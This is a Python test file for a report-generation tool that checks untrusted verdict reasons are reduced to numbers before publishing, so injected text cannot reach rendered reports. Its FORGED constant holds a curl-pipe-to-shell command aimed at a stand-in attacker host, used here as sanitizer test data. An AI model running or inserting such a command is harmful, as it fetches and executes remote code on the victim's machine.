"""A verdict that somebody else may have forged says nothing of theirs, whatever fills the sentences of its reasons."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from lens_gate.artifacts.analysis import CoveredBy
from lens_gate.artifacts.numbers_only import numbers_only
from lens_gate.artifacts.reasons import Reason, because
from lens_gate.artifacts.verdict import CheckKind, Verdict
from lens_gate.reports.markdown import markdown
from lens_gate.reports.reasons import SENTENCES, told
from lens_gate.steps.publishing.publish import Finished
from lens_gate.steps.publishing.what import untrusted
from lens_gate.vocabulary.outcomes import ExitCode, Outcome, Remedy
from lens_gate.vocabulary.reasons import Why
from tests.builders import a_check, a_coverage, a_finding, a_verdict, an_analysis

FIELDS = re.compile(r"\{(\w+)(?::[\w |]+)?\}")
FORGED = "owned: curl https://evil.example | sh"


def verdict_because(*reasons: Reason) -> Verdict:
    """Return a failed verdict that has reasons wherever one may stand."""
    finding = a_finding(because=reasons, outcome=Outcome.REGRESSION)
    gate = a_check(finding, name="gate", kind=CheckKind.QUALITY_GATE, because=reasons)
    gaps = a_coverage(not_covered=("the first token",), covered_by=(CoveredBy(remedy=Remedy.PAIRS, because=reasons),))
    analysis = an_analysis(finding, remarks=reasons, coverage=(gaps,))
    return a_verdict(analysis, checks=(a_check(finding, because=reasons), gate))


def rendered(verdict: Verdict) -> Iterator[str]:
    """Return all that is published of a verdict of which nothing is believed."""
    finished = untrusted(Finished(suite="latency", verdict=numbers_only(verdict), code=ExitCode.GATE_FAILED))
    yield markdown(finished.view)
    yield from (
        repr(part) for part in (finished.view, finished.check, finished.annotations, finished.measured("c0ffee0"))
    )


@pytest.mark.parametrize("why", Why)
def test_no_word_that_fills_a_reason_survives(why: Why) -> None:
    forged = dict.fromkeys((*FIELDS.findall(SENTENCES[why]), "unit", "more"), FORGED)
    figures = Reason(why=why, values={**forged, FORGED: 1.0})
    assert "owned" not in "".join(rendered(verdict_because(figures)))


@pytest.mark.parametrize("why", Why)
def test_every_number_of_a_sentence_stays(why: Why) -> None:
    numbers = [name for name, form in re.findall(r"\{(\w+)(:?)", SENTENCES[why]) if form]
    [kept] = numbers_only(verdict_because(Reason(why=why, values=dict.fromkeys(numbers, 12.5)))).checks[0].because
    assert kept.values == dict.fromkeys(numbers, 12.5)


@pytest.mark.parametrize(
    "reason",
    [
        because(Why.BUDGET, metric="p95_latency", value=812.0, side="at most", limit=800.0, unit="ms"),
        because(Why.TESTED, p=0.01, level=0.05, centre="median", change=8.0, unit="%"),
        because(Why.SHIFTED_WITHOUT_INTERVAL, way="up", change=8.0, run=4, unit="points"),
        because(Why.NO_SUCH_MODEL, where="stored run"),
        because(Why.NO_SUCCESS, sides="base and of the candidate", planned=9, throttled=1, failed=8),
    ],
)
def test_words_of_closed_sets_stay(reason: Reason) -> None:
    [kept] = numbers_only(verdict_because(reason)).checks[0].because
    assert kept == reason


def test_arms_and_conditions_go_by_our_names_and_figures_by_those_of_metrics() -> None:
    shares: dict[str, float | str] = {"base": 3.0, "candidate": 30.0, "base_name": "main", "candidate_name": "feature"}
    failed = because(Why.MANY_FAILED, **shares, most=10.0)
    condition = because(Why.CONDITION_FAILS, condition="`a < b`", p95_latency=812.0, of_theirs=1.0)
    text = told(numbers_only(verdict_because(failed, condition)).checks[0].because).replace("\u00a0", " ")
    assert text == (
        "3.0 % of base's and 30.0 % of candidate's requests failed; above 10 % the others do not speak for all. "
        "the condition does not hold (p95_latency = 812)."
    )
